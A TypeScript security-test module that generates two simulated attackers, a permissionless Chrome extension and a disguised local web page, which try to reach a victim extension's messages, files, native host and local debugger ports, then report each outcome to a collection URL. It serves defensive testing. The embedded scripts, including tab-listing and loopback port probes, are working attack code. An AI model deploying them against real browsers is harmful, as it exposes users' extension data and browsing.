// Two attackers in the person's own browser: an extension without any permission, and a page on loopback. Each tries
// what it can, and tells its own site what came of each attempt.

import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Site } from "@reins/testkit";

/** What they know of us: it is public. */
export interface Victim {
	extension: string;
	host: string;
	/** Files of the extension. */
	files: readonly string[];
	/** What our popup says to our worker. */
	requests: readonly Record<string, unknown>[];
	/** Where a debugger or a bridge of somebody else's would listen. */
	ports: readonly number[];
}

export interface Attempt {
	name: string;
	outcome: string;
}

/** Who does not answer an attacker in this time, does not. */
const PATIENCE = 1_500;

/** What both can do; `tell` is where they report. */
const common = (victim: Victim, tell: string) => `
	const victim = ${JSON.stringify(victim)};
	const ours = (file) => "chrome-extension://" + victim.extension + "/" + file;
	const report = (name, outcome) => fetch("${tell}", { method: "POST", mode: "no-cors", keepalive: true,
		body: JSON.stringify({ name, outcome: String(outcome) }) });
	const tries = async (name, attempt) => {
		const late = new Promise((resolve) => setTimeout(() => resolve("no answer"), ${PATIENCE}));
		const outcome = await Promise.race([late, (async () => attempt())()])
			.catch((error) => "failed: " + (error?.message ?? error));
		await report(name, typeof outcome === "object" ? JSON.stringify(outcome) : outcome);
	};
	const socket = (url) => new Promise((resolve) => {
		const one = new WebSocket(url);
		one.onopen = () => resolve("open");
		one.onmessage = ({ data }) => resolve("heard " + data);
		one.onerror = () => resolve("failed: socket");
	});
	const byNetwork = () => Promise.all([
		...victim.files.flatMap((file) => ["cors", "no-cors"].map((mode) =>
			tries("fetch " + mode + " " + file, async () => "read " + await (await fetch(ours(file), { mode })).text()))),
		...victim.ports.flatMap((port) => [
			tries("fetch port " + port, async () => (await fetch("http://127.0.0.1:" + port + "/json/version", { mode: "no-cors" })).type),
			tries("socket " + port, () => socket("ws://127.0.0.1:" + port + "/")),
		]),
	]);`;

/** The extension that somebody else has installed. */
export function attackingExtension(folder: string, victim: Victim, tell: string): void {
	mkdirSync(folder, { recursive: true });
	const background = { service_worker: "worker.js" };
	const manifest = { manifest_version: 3, name: "Attacker", version: "1", background };
	writeFileSync(join(folder, "manifest.json"), JSON.stringify(manifest));
	writeFileSync(
		join(folder, "worker.js"),
		`${common(victim, tell)}
		const port = (open, said) => new Promise((resolve) => {
			const one = open();
			one.onMessage.addListener((message) => resolve("heard " + JSON.stringify(message)));
			one.onDisconnect.addListener(() => resolve("failed: " + chrome.runtime.lastError?.message));
			one.postMessage(said);
		});
		(async () => {
			// It waits for its moment; asking Chrome keeps it awake.
			while (await (await fetch("${tell}-when")).text() !== "now") await chrome.runtime.getPlatformInfo();
			await Promise.all([
				...victim.requests.map((request) => tries("message " + JSON.stringify(request),
					async () => "heard " + JSON.stringify(await chrome.runtime.sendMessage(victim.extension, request)))),
				...["popup", "watchdog", ""].map((name) => tries("connect " + name,
					() => port(() => chrome.runtime.connect(victim.extension, { name }), victim.requests[0]))),
				tries("native host", () => port(() => chrome.runtime.connectNative(victim.host), { hello: true })),
				tries("native message", () => chrome.runtime.sendNativeMessage(victim.host, { hello: true })),
				tries("debugger", () => chrome.debugger.attach({ targetId: "x" }, "1.3")),
				tries("rules", () => chrome.declarativeNetRequest.updateSessionRules({ removeRuleIds: [1] })),
				tries("storage", () => chrome.storage.session.get(null)),
				tries("scripting", () => chrome.scripting.executeScript({ target: { tabId: 1 }, func: () => 1 })),
				tries("management", () => chrome.management.setEnabled(victim.extension, false)),
				byNetwork(),
			]);
			await tries("our popup as a tab", async () => (await chrome.tabs.create({ url: ours("popup.html"), active: false })).url);
			const tabs = await chrome.tabs.query({});
			await Promise.all(tabs.flatMap(({ id }) => victim.requests.slice(0, 2).map((request) =>
				tries("message to tab", async () => "heard " + JSON.stringify(await chrome.tabs.sendMessage(id, request))))));
			await tries("list of tabs", () => tabs.map(({ url, title }) => url ?? title ?? "unnamed").join());
			await report("done", "");
		})();`,
	);
}

/** The page; answers its address. */
export function attackingPage(site: Site, victim: Victim, tell: string): string {
	return site.page(
		"/attack",
		`<h1>Harmless</h1><script>${common(victim, tell)}
		const element = (name, attributes) => new Promise((resolve) => {
			const one = Object.assign(document.createElement(name), attributes);
			one.onload = () => resolve("loaded");
			one.onerror = () => resolve("failed: " + name);
			document.body.append(one);
		});
		const answered = (target, said) => new Promise((resolve) => {
			addEventListener("message", ({ data, source }) => { if (source !== window || data?.ok !== undefined) resolve("heard " + JSON.stringify(data)) });
			target.postMessage(said, "*");
		});
		async function attack() {
			const form = (action) => {
				const inside = document.body.appendChild(Object.assign(document.createElement("iframe"), { name: "in" + Math.random() }));
				const one = Object.assign(document.createElement("form"), { action, method: "post", target: inside.name });
				document.body.append(one);
				one.submit();
				return "sent";
			};
			await Promise.all([
				...victim.requests.map((request) => tries("message " + JSON.stringify(request),
					() => chrome.runtime.sendMessage(victim.extension, request))),
				tries("connect", () => chrome.runtime.connect(victim.extension)),
				tries("picture", () => element("img", { src: ours("icons/on-16.png") })),
				tries("script", () => element("script", { src: ours("background.js") })),
				tries("module", () => import(ours("background.js"))),
				tries("style", () => element("link", { rel: "stylesheet", href: ours("popup.html") })),
				...victim.files.map((file) => tries("frame " + file, () => element("iframe", { src: ours(file) }))),
				tries("object", () => element("object", { data: ours("popup.html") })),
				tries("form", () => form(ours("popup.html"))),
				tries("beacon", () => navigator.sendBeacon(ours("popup.html"), "x")),
				tries("events", () => new Promise((resolve) => { new EventSource(ours("popup.html")).onerror = () => resolve("failed: events") })),
				tries("worker", () => new SharedWorker(ours("background.js"))),
				...victim.requests.map((request) => tries("post " + JSON.stringify(request), () => answered(window, request))),
				...victim.ports.map((port) => tries("form port " + port, () => form("http://127.0.0.1:" + port + "/"))),
				byNetwork(),
			]);
			const popup = window.open(ours("popup.html"));
			await tries("our popup as a window", () => popup ? answered(popup, victim.requests[0]) : "failed: no window");
			await tries("into our popup", () => popup.document.body.innerText);
			await tries("inside of frames", () => [...document.querySelectorAll("iframe")].map((one) => {
				try { return one.contentDocument?.body.innerText ?? "closed" } catch { return "closed" }
			}).filter((text) => text !== "closed" && text !== "").join() || "failed: nothing to read");
			await report("done", "");
		}</script>`,
	);
}
